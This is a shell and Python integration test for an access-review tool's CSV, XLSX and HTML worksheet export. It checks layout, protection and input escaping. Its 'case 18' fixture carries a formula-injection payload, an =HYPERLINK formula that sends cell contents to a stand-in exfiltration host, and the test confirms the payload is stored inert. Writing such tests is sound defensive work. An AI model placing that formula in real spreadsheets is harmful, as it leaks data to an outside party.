#!/bin/sh
# it_worksheets.sh: `review open --format csv,xlsx,html` end to end on
# tests/data/worksheets (case 18's names, privileged grants, an orphan, two
# reviewers): the XLSX read back with Debian's openpyxl must hold exactly
# the CSV's cells, be frozen, filtered, protected, with the Keep / Revoke
# drop-down; the HTML escapes everything and links nothing.
set -u
ROLLCALL=${ROLLCALL:-$(pwd)/build/rollcall}
D=$(pwd)/tests/data/worksheets
tmp=$(mktemp -d "${TMPDIR:-/tmp}/it_worksheets.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
chmod 700 "$tmp"
. tests/lib/tap.sh

rc() {
	"$ROLLCALL" -d "$tmp/r.db" -c "$D/rollcall.conf" --as-of 2026-12-03 "$@"
}

for step in "init" "import hr $D/hr.csv" "import accounts okta $D/okta.csv" \
    "import accounts github $D/github.csv"; do
	# shellcheck disable=SC2086
	if ! rc $step >/dev/null 2>"$tmp/err"; then
		cat "$tmp/err"
		echo "not ok - setup: rollcall $step"
		exit 1
	fi
done

rc review open Q4-2026 --due 2026-12-31 --out "$tmp/ws" \
    --format csv,xlsx,html >/dev/null 2>"$tmp/err"
is "review open --format csv,xlsx,html: exit 0" 0 $?
is "three files per reviewer, plus index.csv" \
    "E1700-omar.csv E1700-omar.html E1700-omar.xlsx E1800-lea.csv E1800-lea.html E1800-lea.xlsx index.csv" \
    "$(ls "$tmp/ws" | tr '\n' ' ' | sed 's/ $//')"
is "index.csv: one row per file" 7 "$(wc -l <"$tmp/ws/index.csv")"

rc review open Q1-2027 --out "$tmp/x" --format xlsx >/dev/null 2>&1
is "--format xlsx alone: workbooks and index.csv only" \
    "E1700-omar.xlsx E1800-lea.xlsx index.csv" \
    "$(ls "$tmp/x" | tr '\n' ' ' | sed 's/ $//')"
rc review open Q2-2027 --out "$tmp/y" --format csv,pdf >/dev/null \
    2>"$tmp/err"
is "--format pdf: exit 1" 1 $?
ok "--format pdf: names the formats there are" \
    grep -q "unknown format 'pdf' (this build writes: csv, xlsx, html)" \
    "$tmp/err"

x=$tmp/ws/E1800-lea.xlsx
if command -v unzip >/dev/null 2>&1; then
	unzip -p "$x" xl/worksheets/sheet1.xml >"$tmp/sheet.xml"
	unzip -p "$x" xl/sharedStrings.xml >"$tmp/sst.xml"
	ok "case 18: no <f> in the sheet XML" \
	    sh -c "! grep -q '<f[ >]' '$tmp/sheet.xml'"
	ok "case 18: =HYPERLINK(...) is a shared string" \
	    grep -qF '<t>=HYPERLINK("https://exfil.example.invalid/?d="&amp;C2,"Open")</t>' "$tmp/sst.xml"
	ok "case 18: Okta displayName =2+5 is a shared string" \
	    grep -qF '<t>=2+5</t>' "$tmp/sst.xml"
	ok "sheet protected without a password" \
	    sh -c "grep -q '<sheetProtection sheet=\"1\"' '$tmp/sheet.xml' && ! grep -q 'password=' '$tmp/sheet.xml'"
else
	skip "XLSX XML checks" "unzip not installed (scripts/deps.sh)"
fi

# openpyxl: Debian's, not whatever python3 comes first on PATH.
PY=/usr/bin/python3
if ! $PY -c 'import openpyxl' 2>/dev/null; then
	skip "XLSX read back" "python3-openpyxl not installed (scripts/deps.sh)"
	tap_done
fi
$PY - "$x" "$tmp/ws/E1800-lea.csv" >"$tmp/py.out" 2>&1 <<'EOF'
import csv, sys
import openpyxl
from openpyxl.utils.escape import unescape

xlsx, csvf = sys.argv[1], sys.argv[2]
wb = openpyxl.load_workbook(xlsx)
ws = wb.worksheets[0]
with open(csvf, newline='', encoding='utf-8-sig') as f:
    rows = list(csv.reader(f))
head, items = rows[0], rows[1:]
n = len(items)
col = {name: i for i, name in enumerate(head)}

def check(name, cond):
    print(("ok - " if cond else "not ok - ") + name)

def csv_value(v):
    # the CSV's apostrophe is its own defence; XLSX holds the original
    if v[:1] == "'" and v[1:2] in ("=", "+", "-", "@", "\t", "\r"):
        return v[1:]
    return v

def xlsx_value(c):
    if c.value is None:
        return ""
    if c.data_type == "n":
        return str(c.value)
    return unescape(c.value)

got_head = [c.value for c in ws[1]]
check("xlsx header is the CSV header", got_head == head)
same = all([xlsx_value(c) for c in ws[r + 2]][:len(head)] ==
    [csv_value(v) for v in items[r]] for r in range(n))
check("every xlsx cell equals the CSV's (order, values)", same)
texts = [ws.cell(row=r + 2, column=col["person"] + 1) for r in range(n)]
check("source values are string cells",
    all(c.data_type == "s" for c in texts if c.value is not None))
days = [ws.cell(row=r + 2, column=col["days_since_termination"] + 1)
    for r in range(n)]
check("day counts are numbers (17)",
    sorted({c.value for c in days if c.value is not None}) == [17] and
    all(c.data_type == "n" for c in days if c.value is not None))
check("case 18: CR + Finance read back as it was",
    "\rFinance" in [xlsx_value(ws.cell(row=r + 2, column=col["title"] + 1))
        for r in range(n)])

person_next = openpyxl.utils.get_column_letter(col["person"] + 2)
check("header row and columns to the person frozen",
    ws.freeze_panes == person_next + "2")
last = openpyxl.utils.get_column_letter(len(head))
check("autofilter over the table", ws.auto_filter.ref == "A1:%s%d" %
    (last, n + 1))
check("protected, no password", ws.protection.sheet is True and
    ws.protection.password is None and ws.protection.autoFilter is False)
dec = openpyxl.utils.get_column_letter(col["decision"] + 1)
dvs = ws.data_validations.dataValidation
check("one Keep/Revoke list on the decision cells",
    len(dvs) == 1 and dvs[0].type == "list" and
    dvs[0].formula1 == '"Keep,Revoke"' and
    str(dvs[0].sqref) == "%s2:%s%d" % (dec, dec, n + 1))
unlocked = set()
for r in range(2, n + 2):
    for i in range(len(head)):
        if not ws.cell(row=r, column=i + 1).protection.locked:
            unlocked.add(head[i])
check("decision and comment are the only unlocked item cells",
    unlocked == {"decision", "comment"})

def fill(r):
    return ws.cell(row=r, column=1).fill.fgColor.rgb[-6:]
finding = [r for r in range(n) if items[r][col["findings"]]]
priv = [r for r in range(n) if not items[r][col["findings"]] and
    items[r][col["privileged"]] == "yes"]
plain = [r for r in range(n) if r not in finding and r not in priv]
check("rows with findings red, privileged amber, others plain",
    len(finding) == 13 and len(priv) == 3 and plain and
    all(fill(r + 2) == "F8D7DA" for r in finding) and
    all(fill(r + 2) == "FFE8B3" for r in priv) and
    all(ws.cell(row=r + 2, column=1).fill.fill_type is None for r in plain))
below = [ws.cell(row=r, column=1).value for r in range(n + 2, ws.max_row + 1)]
check("sign-off block under the table",
    below[-4:] == ["Sign-off", "Reviewed by", "Date", "Signature"])
signs = [ws.cell(row=ws.max_row - i, column=2) for i in range(3)]
check("sign-off cells unlocked", all(not c.protection.locked for c in signs))
EOF
cat "$tmp/py.out"
grep -q '^not ok' "$tmp/py.out" && tap_failed=$((tap_failed + 1))
grep -q '^ok' "$tmp/py.out" || { echo "not ok - openpyxl script ran"; tap_failed=$((tap_failed + 1)); }

h=$tmp/ws/E1800-lea.html
ok "html: utf-8 declared" grep -q '<meta charset="utf-8">' "$h"
ok "html: case 18 displayName escaped" \
    grep -qF '<td>Ngozi &lt;b&gt;Eze&lt;/b&gt;</td>' "$h"
ok "html: case 18 =HYPERLINK escaped" \
    grep -qF '=HYPERLINK(&quot;https://exfil.example.invalid/?d=&quot;&amp;C2,&quot;Open&quot;)' "$h"
ok "html: no link, script or remote asset" \
    sh -c "! grep -qiE '<a |href|<script|src=|url\\(' '$h'"
is "html: one Keep/Revoke per item" "$(($(wc -l <"$tmp/ws/E1800-lea.csv") - 1))" \
    "$(grep -o '<td class="decide">' "$h" | wc -l)"
ok "html: sign-off block" grep -q '<th>Signature</th>' "$h"
tap_done
